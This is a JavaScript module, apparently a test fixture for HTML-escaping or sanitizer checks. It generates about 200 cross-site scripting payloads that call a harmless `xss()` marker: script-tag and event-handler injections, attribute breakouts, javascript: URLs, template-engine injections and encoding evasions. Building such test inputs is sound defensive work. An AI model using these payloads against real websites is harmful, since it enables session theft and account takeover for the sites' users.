// Text that would run if a page put it into HTML, an attribute, an address, a script or a style without care. Each calls
// the page's `xss()`.
const calls = ['xss()', 'window.xss()', 'top.xss()', 'self["xss"]()'];
const elements = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}"`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext><img src onerror=${call}></mtext></math>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<iframe srcdoc="<script>parent.${call.replace(/"/g, '&quot;')}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<form><button autofocus onfocus=${call} formaction=javascript:${call}>x`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];
const attributes = [
  (call) => `" autofocus onfocus="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `\` onload=${call} \``,
  (call) => `x onmouseover=${call} onfocus=${call} autofocus`,
  (call) => `"><svg/onload=${call}//`,
  (call) => `" style="animation-name:x" onanimationstart="${call}`,
];
const addresses = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}//`,
  (call) => `data:text/html,<script>opener.${call}</script>`,
  (call) => `//[x]" onclick="${call}`,
];
const templates = [
  (call) => `{{{csrf_html}}}<script>${call}</script>`,
  (call) => `{{#html}}<script>${call}</script>{{/html}}`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
];
const encodings = [
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  (call) => `<scr\u00ADipt>${call}</scr\u00ADipt>`,
  (call) => `\u202E<script>${call}</script>`,
  (call) => `"';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `</p><script>${call}</script><p>`,
];

/// 200 and more different texts.
export const payloads = [...elements, ...attributes, ...addresses, ...templates, ...encodings]
  .flatMap((make) => calls.map(make));
